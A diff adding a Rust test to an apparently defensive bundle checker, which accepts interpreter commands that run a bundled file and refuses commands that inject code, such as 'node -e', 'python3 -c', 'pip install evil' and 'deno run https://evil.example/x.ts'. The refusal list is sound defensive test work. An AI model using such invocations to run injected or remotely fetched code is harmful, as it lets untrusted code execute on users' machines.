@@ -389,6 +389,80 @@ fn hostile_bundles_are_refused_with_words() {
 }
 
 #[test]
+fn an_interpreter_runs_a_file_of_the_bundle_and_no_other_code() {
+    let plan = |command: &str, arguments: &[&str]| {
+        let run = run(json!({
+            "command": command, "args": arguments, "env": {"PYTHONPATH": "${__dirname}/server/lib"},
+        }));
+        let more: &[(&str, &[u8], u32)] = &[
+            ("-e", b"", 0o644),
+            ("server/lib/own/__main__.py", b"", 0o644),
+        ];
+        let bundle = Bundle::read(bundle_of(&manifest(run), more)).unwrap();
+        plan_of(&bundle, &[]).refused.join("; ")
+    };
+    let main = "${__dirname}${/}server/main.py";
+    let taken: [(&str, &[&str]); 12] = [
+        ("node", &["--no-warnings", main, "-e", "x"]),
+        ("python3", &["-u", "server/main.py", "--config", "/x"]),
+        ("python", &["-m", "own"]),
+        ("python", &["-m", "server.main"]),
+        ("bun", &["server/main.py"]),
+        ("bun", &["run", main]),
+        ("deno", &["run", "--allow-net", main]),
+        (
+            "uv",
+            &["run", "--directory", "${__dirname}", "server/main.py"],
+        ),
+        (
+            "uv",
+            &[
+                "--directory",
+                "${__dirname}/server",
+                "run",
+                "--quiet",
+                "main.py",
+            ],
+        ),
+        ("uv", &["run", "python", main]),
+        (
+            "uv",
+            &["run", "--project", "${__dirname}", "python", "-m", "own"],
+        ),
+        ("server/main.py", &["-e", "x"]),
+    ];
+    for (command, arguments) in taken {
+        assert_eq!(plan(command, arguments), "", "{command} {arguments:?}");
+    }
+    let refused: [(&str, &[&str]); 19] = [
+        ("node", &["-e", "CODE"]),
+        ("node", &["--require", "/tmp/x.js", main]),
+        ("node", &["--import=data:text/javascript,x", main]),
+        ("node", &["/tmp/x.js"]),
+        ("node", &["${__dirname}/../x.js"]),
+        ("node", &["${user_config.file}"]),
+        ("node", &[]),
+        ("python3", &["-c", "CODE"]),
+        ("python3", &["-uc", "CODE"]),
+        ("python3", &["-m", "pip", "install", "evil"]),
+        ("python3", &["-"]),
+        ("bun", &["x", "evil"]),
+        ("deno", &["eval", "CODE"]),
+        ("deno", &["run", "https://evil.example/x.ts"]),
+        ("uv", &["run", "sh", "-c", "CODE"]),
+        ("uv", &["run", "--with", "evil", main]),
+        ("uv", &["run", "--directory", "/tmp", "main.py"]),
+        ("uv", &["tool", "run", "evil"]),
+        ("uv", &["run", "python", "-c", "CODE"]),
+    ];
+    for (command, arguments) in refused {
+        let told = plan(command, arguments);
+        let is_told = told.contains("decides which code is run") || told.contains("name no file");
+        assert!(is_told, "{command} {arguments:?}: {told:?}");
+    }
+}
+
+#[test]
 fn a_file_that_is_longer_than_it_says_is_not_unpacked() {
     let home = tempfile::tempdir().unwrap();
     let file = patched(24, &[3, 0, 0, 0]);
